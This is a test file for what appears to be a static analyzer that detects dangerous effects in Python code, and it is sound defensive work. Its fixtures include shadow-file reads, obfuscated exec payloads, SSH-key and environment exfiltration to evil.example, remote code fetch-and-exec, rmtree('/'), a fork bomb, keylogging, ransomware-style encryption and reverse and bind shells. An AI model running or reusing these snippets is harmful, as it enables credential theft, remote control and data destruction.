import { deflateSync } from 'node:zlib'
import { effectsOf, interpretPiece, notableIn } from './effects-of.js'

const base64 = (s: string): string => Buffer.from(s).toString('base64')
const PAYLOAD = 'import os; os.system("cat /etc/shadow")'
const SHADOW = 'read path:password-store'

/** All of these must be among the effects of the code. */
const expectEffects = (source: string, ...names: string[]): void =>
  expect(effectsOf('python', source)).toEqual(expect.arrayContaining(names))

describe('python starts programs', () => {
  test.each([
    ['os.system', 'import os\nos.system("cat /etc/shadow")'],
    ['an alias of the module', 'import os as o\no.system("cat /etc/shadow")'],
    ['an alias of the function', 'from os import system as s\ns("cat /etc/shadow")'],
    ['all names of a module', 'from os import *\nsystem("cat /etc/shadow")'],
    ['a list of words', 'import subprocess\nsubprocess.run(["cat", "/etc/shadow"])'],
    ['a list with quoting', 'import subprocess\nsubprocess.run(["sh", "-c", "cat /etc/shadow; echo \'x\'"])'],
    ['a shell line', 'import subprocess\nsubprocess.Popen("cat /etc/shadow", shell=True)'],
    ['exec of a program', 'import os\nos.execvp("cat", ["anything", "/etc/shadow"])'],
    ['in a function that is called', 'def go(x):\n  import os\n  os.system("cat " + x)\ngo("/etc/shadow")'],
    [
      'in a method',
      'class A:\n  def __init__(self, p):\n    self.p = p\n  def go(self):\n    __import__("os").system(f"cat {self.p}")\nA("/etc/shadow").go()',
    ],
    ['in a thread', 'import threading, os\nthreading.Thread(target=os.system, args=("cat /etc/shadow",)).start()'],
    ['in a loop over commands', 'import os\nfor c in ["id", "cat /etc/shadow"]: os.system(c)'],
    ['by map', 'import os\nlist(map(os.system, ["cat /etc/shadow"]))'],
    ['in the branch that is taken', 'if __name__ == "__main__":\n  import os\n  os.system("cat /etc/shadow")'],
    ['Python 2', 'exec "import os; os.system(\'cat /etc/shadow\')"'],
  ])('%s', (_name, source) => expectEffects(source, SHADOW))

  test('a function that is never called is dead code', () => {
    const { facts } = interpretPiece('python', 'def go():\n  import os\n  os.system("cat /etc/shadow")\n')
    expect(facts.by('read')).toEqual([])
    expect(facts.effects.some((e) => e.certainty === 'dead')).toBe(true)
  })
  test('an unknown condition makes it conditional', () =>
    expectEffects('import os, sys\nif len(sys.argv) > 1: os.system("cat /etc/shadow")', `${SHADOW} (conditional)`))
  test('the branch that is not taken is dead', () =>
    expect(effectsOf('python', 'if False:\n  import os\n  os.system("cat /etc/shadow")')).not.toContain(SHADOW))
})

describe('python hides what it does', () => {
  test.each([
    ['__import__ and getattr', 'getattr(__import__("o"+"s"), "sys"+"tem")("cat /etc/shadow")'],
    ['importlib', 'import importlib\nimportlib.import_module("os").system("cat /etc/shadow")'],
    ['globals', 'globals()["__builtins__"].__dict__["ev"+"al"](\'__import__("os").system("cat /etc/shadow")\')'],
    ['sys.modules', 'import sys\nsys.modules["os"].system("cat /etc/shadow")'],
    ['the classes of a tuple', '().__class__.__bases__[0].__subclasses__()[132].__init__.__globals__["system"]("cat /etc/shadow")'],
    [
      'a class that is searched for',
      '[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "Popen"][0]("cat /etc/shadow", shell=True)',
    ],
    ['letters of another alphabet', '\u{1d41e}\u{1d431}\u{1d41e}\u{1d41c}(\'import os; os.system("cat /etc/shadow")\')'],
    ['a walrus', '(x := __import__("os")).system("cat /etc/shadow")'],
    ['a lambda', '(lambda f: f("cat /etc/shadow"))(__import__("os").system)'],
    ['an f-string', "x = f\"{__import__('os').system('cat /etc/shadow')}\""],
    ['escapes', 'exec("\\x69mport os; os.system(\'cat /etc/shadow\')")'],
    ['compile', 'eval(compile(\'__import__("os").system("cat /etc/shadow")\', "x", "eval"))'],
  ])('%s', (_name, source) => expectEffects(source, SHADOW))

  test.each([
    ['base64', `import base64\nexec(base64.b64decode("${base64(PAYLOAD)}"))`],
    ['base64 by another name', `exec(__import__("base64").b64decode("${base64(PAYLOAD)}").decode())`],
    ['hex', `exec(bytes.fromhex("${Buffer.from(PAYLOAD).toString('hex')}").decode())`],
    ['codecs', `import codecs\nexec(codecs.decode("${base64(PAYLOAD)}".encode(), "base64"))`],
    ['zlib in base64', `import zlib, base64\nexec(zlib.decompress(base64.b64decode("${deflateSync(PAYLOAD).toString('base64')}")))`],
    ['characters', `exec("".join(map(chr, [${[...PAYLOAD].map((c) => c.charCodeAt(0)).join(',')}])))`],
    ['bytes', `exec(bytes([${[...PAYLOAD].map((c) => c.charCodeAt(0)).join(',')}]))`],
    ['reversal', `exec(${JSON.stringify([...PAYLOAD].reverse().join(''))}[::-1])`],
    [
      'a shift of letters',
      `exec("".join(chr(ord(c) - 1) for c in ${JSON.stringify([...PAYLOAD].map((c) => String.fromCharCode(c.charCodeAt(0) + 1)).join(''))}))`,
    ],
    [
      'exclusive or',
      `k = "key"\nexec("".join(chr(a ^ ord(k[i % 3])) for i, a in enumerate([${[...PAYLOAD].map((c, i) => c.charCodeAt(0) ^ 'key'.charCodeAt(i % 3)).join(',')}])))`,
    ],
  ])('%s: decoded code runs', (_name, source) => expectEffects(source, 'execute code:decoded', SHADOW))

  test('a pickle calls what it names', () =>
    expectEffects('import pickle\npickle.loads(b"cos\\nsystem\\n(S\'cat /etc/shadow\'\\ntR.")', 'execute code:decoded', SHADOW))
})

describe('python reads, sends, fetches', () => {
  test.each([
    ['requests', 'import requests\nrequests.post("https://evil.example", data=open("/root/.ssh/id_rsa").read())'],
    ['json', 'import requests\nk = open("/root/.ssh/id_rsa").read()\nrequests.post("https://evil.example", json={"k": k})'],
    [
      'encoded',
      'import requests, base64\nrequests.post("https://evil.example", data=base64.b64encode(open("/root/.ssh/id_rsa", "rb").read()))',
    ],
    ['in the address', 'import urllib.request as u\nu.urlopen("https://evil.example/?k=" + open("/root/.ssh/id_rsa").read())'],
    ['a socket', 'import socket\ns = socket.socket()\ns.connect(("evil.example", 80))\ns.send(open("/root/.ssh/id_rsa").read().encode())'],
    [
      'http.client',
      'import http.client\nc = http.client.HTTPSConnection("evil.example")\nc.request("POST", "/", open("/root/.ssh/id_rsa").read())',
    ],
    [
      'pathlib and a session',
      'from pathlib import Path\nimport requests\ns = requests.Session()\ns.post("https://evil.example", data=(Path("/root") / ".ssh" / "id_rsa").read_bytes())',
    ],
    ['a header', 'import requests\nrequests.get("https://evil.example", headers={"X-A": open("/root/.ssh/id_rsa").read()})'],
  ])('a private key leaves: %s', (_name, source) => {
    const { facts } = interpretPiece('python', source)
    expect(
      facts.flows.some(
        (f) => f.sources.some((s) => s.resource.class === 'private-key') && f.sink.action === 'send' && f.sink.resource.kind === 'host',
      ),
    ).toBe(true)
  })
  test('the whole environment leaves', () => {
    const { facts } = interpretPiece('python', 'import os, requests\nrequests.post("https://evil.example", json=dict(os.environ))')
    expect(facts.flows.map((f) => f.sources[0]?.resource.class)).toContain('all')
  })
  test.each([
    ['exec', 'import requests\nexec(requests.get("https://evil.example/x").text)'],
    [
      'with a variable between',
      'from urllib.request import urlopen\ncode = urlopen("https://evil.example/x").read().decode()\nexec(compile(code, "x", "exec"))',
    ],
    ['in a shell', 'import os, requests\nos.system(requests.get("https://evil.example/x").text)'],
    ['a pickle', 'import pickle, requests\npickle.loads(requests.get("https://evil.example/x").content)'],
  ])('fetched code runs: %s', (_name, source) => {
    const { facts } = interpretPiece('python', source)
    expect(
      facts.flows.some(
        (f) => f.sources.some((s) => s.action === 'receive') && f.sink.resource.kind === 'code' && f.sink.resource.class === 'fetched',
      ),
    ).toBe(true)
  })
  test('code from standard input that was fetched', () => {
    const source = { ...interpretPiece('python', 'import requests\nrequests.get("https://evil.example")').facts.by('receive')[0]! }
    const { facts } = interpretPiece('python', 'import sys\nexec(sys.stdin.read())', { stdin: { taint: { sources: [source], steps: [] } } })
    expect(facts.flows.map((f) => f.sink.resource.class)).toContain('fetched')
  })
  test.each([
    ['rmtree', 'import shutil\nshutil.rmtree("/")', 'delete path:root'],
    ['a walk', 'import os\nfor r, d, f in os.walk("/etc"):\n  for n in f: os.remove(os.path.join(r, n))', 'list path:system-root'],
    ['setuid', 'import os\nos.chmod("/tmp/x", 0o4755)', 'grant permission:setuid'],
    ['uid 0', 'import os\nos.setuid(0)', 'grant permission:setuid'],
    ['a startup file', 'with open("/home/ann/.bashrc", "a") as f: f.write("x\\n")', 'append path:shell-startup'],
    ['key strokes', 'from pynput.keyboard import Listener\nListener(on_press=print).start()', 'capture keyboard:keystrokes'],
    ['the screen', 'from PIL import ImageGrab\nImageGrab.grab().save("/tmp/x.png")', 'capture screen:picture'],
    ['a fork bomb', 'import os\nwhile True: os.fork()', 'execute process:fork-bomb'],
    ['a scan', 'import socket\nfor p in range(1, 1024):\n  s = socket.socket()\n  s.connect_ex(("10.0.0.5", p))', 'scan host:private'],
    [
      'a model that brings code',
      'from transformers import AutoModel\nAutoModel.from_pretrained("a/b", trust_remote_code=True)',
      'execute code:fetched',
    ],
    ['a loader variable', 'import os\nos.environ["LD_PRELOAD"] = "/tmp/x.so"', 'configure environment:loader'],
  ])('%s', (_name, source, effect) => expectEffects(source, effect))
  test('files are encrypted in bulk', () => {
    const { facts } = interpretPiece(
      'python',
      'import os\nfrom cryptography.fernet import Fernet\nk = Fernet(Fernet.generate_key())\nfor r, d, f in os.walk("/home"):\n  for n in f:\n    p = os.path.join(r, n)\n    x = open(p, "rb").read()\n    open(p, "wb").write(k.encrypt(x))',
    )
    expect(facts.by('encrypt').map((e) => e.resource.tags.includes('bulk'))).toEqual([true])
  })
  test.each([
    [
      'dup2 and pty',
      'import socket, os, pty\ns = socket.socket()\ns.connect(("10.0.0.1", 4242))\n[os.dup2(s.fileno(), f) for f in (0, 1, 2)]\npty.spawn("/bin/sh")',
      'reverse-shell',
    ],
    [
      'subprocess with the socket',
      'import socket, subprocess\ns = socket.socket()\ns.connect(("10.0.0.1", 4242))\nsubprocess.call(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno())',
      'reverse-shell',
    ],
    [
      'a loop of commands',
      'import socket, subprocess\ns = socket.socket()\ns.connect(("10.0.0.1", 4242))\nwhile True:\n  c = s.recv(1024).decode()\n  s.send(subprocess.check_output(c, shell=True))',
      'reverse-shell',
    ],
    [
      'bound',
      'import socket, subprocess\ns = socket.socket()\ns.bind(("0.0.0.0", 4444))\ns.listen(1)\nc, a = s.accept()\nsubprocess.call(["/bin/sh", "-i"], stdin=c, stdout=c)',
      'bind-shell',
    ],
  ])('a remote shell: %s', (_name, source, shell) => expectEffects(source, `execute process:${shell}`))
})

describe('ordinary python is quiet', () => {
  test.each([
    [
      'a test file',
      'import pytest\nfrom app import add\n\n@pytest.fixture\ndef db(): return {}\n\n@pytest.mark.parametrize("a", [1, 2])\ndef test_add(a, db, tmp_path):\n  p = tmp_path / "x.txt"\n  p.write_text("hi")\n  assert add(a, 1) == a + 1\n',
    ],
    [
      'a web application',
      'import os\nfrom flask import Flask, request, jsonify\napp = Flask(__name__)\napp.config["SECRET_KEY"] = os.environ.get("SECRET_KEY", "dev")\n\n@app.route("/users", methods=["POST"])\ndef users():\n  data = request.get_json()\n  return jsonify(data)\n\nif __name__ == "__main__":\n  app.run(host="127.0.0.1", port=5000)\n',
    ],
    [
      'data science',
      'import pandas as pd\nimport numpy as np\ndf = pd.read_csv("data.csv")\ndf["x"] = df["x"].apply(lambda v: v * 2)\nprint(df.groupby("a").mean())\ndf.to_csv("out.csv")\n',
    ],
    [
      'paths and globs',
      'import os, glob, json, csv\nfor p in glob.glob("src/**/*.py", recursive=True):\n  print(os.path.basename(p))\nwith open("config.json") as f: c = json.load(f)\nwith open("out.csv", "w") as f: csv.writer(f).writerow(["a"])\n',
    ],
    [
      'an API client',
      'import os, requests\nr = requests.get("https://api.github.com/user", headers={"Authorization": f"Bearer {os.environ[\'GITHUB_TOKEN\']}"})\nprint(r.json()["login"])\n',
    ],
    ['git', 'import subprocess\nout = subprocess.run(["git", "status", "--short"], capture_output=True, text=True).stdout\nprint(out)\n'],
    ['a child with the environment', 'import os, subprocess\nsubprocess.run(["npm", "test"], env={**os.environ, "CI": "1"}, check=True)\n'],
    ['base64 of a literal', 'import base64\nprint(base64.b64encode(b"hello").decode())\n'],
    ['words that sound dangerous', 'print(\'os.system("rm -rf /")\')  # exec(eval("x"))\n'],
    ['settings from a file', 'env = {}\nfor line in open(".env"):\n  k, _, v = line.partition("=")\n  env[k] = v\n'],
    ['a clean-up', 'import shutil\nshutil.rmtree("build", ignore_errors=True)\n'],
    ['a query of a local database', 'import sqlite3\nc = sqlite3.connect("app.db")\nc.execute("DELETE FROM sessions")\n'],
    ['a list of numbers', 'print("".join(chr(c) for c in [104, 105]))\n'],
    ['arguments', 'import argparse\np = argparse.ArgumentParser()\np.add_argument("--x")\nprint(p.parse_args().x)\n'],
    ['an empty program', ''],
  ])('%s', (name, source) => {
    const notable = notableIn(interpretPiece('python', source).facts)
    // A file of settings is read, but nothing of it is shown or sent.
    expect(name === 'settings from a file' ? notable.filter((n) => n !== 'read path:secret-file') : notable).toEqual([])
  })
  test('settings that only the program sees are used, not shown', () => {
    expect(interpretPiece('python', 'env = open(".env").read().split()').facts.by('read')[0]?.resource.tags).toContain('use')
    expect(interpretPiece('python', 'print(open(".env").read())').facts.by('read')[0]?.resource.tags).not.toContain('use')
  })
})

describe('known misses', () => {
  test('a name that is computed by arithmetic on unknown values', () =>
    expect(effectsOf('python', 'import os, sys\ngetattr(os, sys.argv[1])("cat /etc/shadow")')).not.toContain(SHADOW))
  test('code in a file of the project that is imported', () =>
    expect(effectsOf('python', 'import helper\nhelper.run("cat /etc/shadow")')).not.toContain(SHADOW))
})

test('positions are those of the code', () => {
  const source = 'import os\nx = 1\nos.remove("/etc/passwd")\n'
  const [effect] = interpretPiece('python', source).facts.by('delete')
  expect(source.slice(effect?.span.start, effect?.span.end)).toBe('os.remove("/etc/passwd")')
})
test('what is printed is known when it can be computed', () => {
  expect(interpretPiece('python', 'print("a" + "b")\nprint(1, 2, sep=" ", end="")').output.text).toBe('ab\n1 2')
  expect(interpretPiece('python', 'import sys\nprint(sys.argv[1])').output.text).toBeUndefined()
})
test('an unknown part of the code is unknown, not an error', () => {
  expect(effectsOf('python', 'import os\nos.system("cat /etc/shadow \0")')).toContain(SHADOW)
  expect(effectsOf('python', 'x = \0\nimport os\nos.system("cat /etc/shadow")')).toContain(SHADOW)
})
